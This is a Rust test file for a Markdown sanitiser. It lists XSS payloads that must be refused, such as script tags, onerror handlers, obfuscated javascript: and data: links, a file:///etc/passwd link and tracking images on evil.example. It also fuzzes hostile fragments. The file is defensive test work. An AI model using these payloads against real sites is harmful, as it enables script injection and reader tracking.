//! Hostile Markdown: an article can bring nothing into the page but what the model names, and links that lead to the web or
//! within the app. Each text is either refused with its line, or becomes nodes whose every link is harmless.

use crate::fixture::Copy;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use sextant_dataset::model::{Block, Inline};

/// Each must be refused.
const REFUSED: [&str; 25] = [
    "<script>alert(1)</script>",
    "Text <script>alert(1)</script> text.",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<style>p { display: none }</style>",
    "<iframe src=https://evil.example></iframe>",
    "<!-- hidden -->",
    "<?php echo 1 ?>",
    "<![CDATA[ x ]]>",
    "<!DOCTYPE html>",
    "[a](javascript:alert\\(1\\))",
    "[a](JaVaScRiPt:alert)",
    "[a](&#106;avascript:alert)",
    "[a](javascript&colon;alert)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example)",
    "[a](<java\tscript:alert>)",
    "<javascript:alert>",
    "[a][b]\n\n[b]: javascript:alert",
    "![a](https://evil.example/count.png)",
    "![a][b]\n\n[b]: https://evil.example/count.png",
];

/// Each is text to people who read it, and nothing else.
const PLAIN: [&str; 6] = [
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```html\n<script>alert(1)</script>\n```",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
];

fn must_be_harmless(blocks: &[Block]) {
    for block in blocks {
        match block {
            Block::Heading(_, _, inlines) | Block::Paragraph(inlines) => harmless_inlines(inlines),
            Block::List(_, items) => items.iter().for_each(|item| must_be_harmless(item)),
            Block::Quote(inner) => must_be_harmless(inner),
            Block::Table(head, rows) => head.iter().chain(rows.iter().flatten()).for_each(|cell| harmless_inlines(cell)),
            Block::Code(_) | Block::Measure(..) => {}
        }
    }
}

fn harmless_inlines(inlines: &[Inline]) {
    for inline in inlines {
        match inline {
            Inline::Text(_) | Inline::Code(_) | Inline::Note(_) => {}
            Inline::Strong(inner) | Inline::Emphasis(inner) | Inline::Claim(_, _, inner) => harmless_inlines(inner),
            Inline::Link(address, inner) => {
                let is_harmless = ["https://", "http://", "?", "#"].iter().any(|start| address.starts_with(start));
                assert!(is_harmless && !address.contains(['"', '<', '>', ' ']), "{address:?}");
                harmless_inlines(inner);
            }
        }
    }
}

#[test]
fn markdown_that_would_run_something_or_count_readers_is_refused() {
    for markdown in REFUSED {
        let copy = Copy::new();
        copy.replace("articles/second.md", "One line.", markdown);
        let problems = copy.problems();
        assert!(!problems.is_empty(), "{markdown:?} was taken");
        assert!(problems.iter().all(|problem| problem.starts_with("articles/second.md:1")), "{markdown:?}: {problems:?}");
    }
}

#[test]
fn markdown_about_scripts_is_text() {
    for markdown in PLAIN {
        let copy = Copy::new();
        copy.replace("articles/second.md", "One line.", markdown);
        let article = copy.dataset().articles.remove(0);
        assert!(format!("{:?}", article.blocks).contains("alert"), "{markdown:?} lost its words");
        must_be_harmless(&article.blocks);
    }
}

#[test]
fn whatever_pieces_of_hostile_markdown_come_together_nothing_harmful_gets_through() {
    let cases = if std::env::var_os("SEXTANT_LONG").is_some() { 20_000 } else { 200 };
    let pieces = [
        "<",
        ">",
        "<script",
        "</",
        "onload=",
        "javascript:",
        "data:",
        "//",
        "[",
        "](",
        ")",
        "![",
        "`",
        "```\n",
        "\\",
        "&",
        "&lt;",
        "&#x3c;",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "#",
        "## ",
        "|",
        "---",
        "a",
        "https://example.org/",
        "\"",
        "'",
        " ",
        "\t",
        "<!--",
        "-->",
        "*",
        "_",
        "[x]: ",
        "?page=",
        "\u{202e}",
        "\u{0}",
    ];
    let mut runner = TestRunner::new(Config { cases, failure_persistence: None, ..Config::default() });
    let texts = prop::collection::vec(prop::sample::select(pieces.to_vec()), 1..14);
    let result = runner.run(&texts, |pieces| {
        let copy = Copy::new();
        copy.replace("articles/second.md", "One line.", &format!("One line.\n\n{}", pieces.concat()));
        if let Ok(dataset) = sextant_dataset::read::read(copy.path()) {
            dataset.articles.iter().for_each(|article| must_be_harmless(&article.blocks));
        }
        Ok(())
    });
    result.unwrap();
}
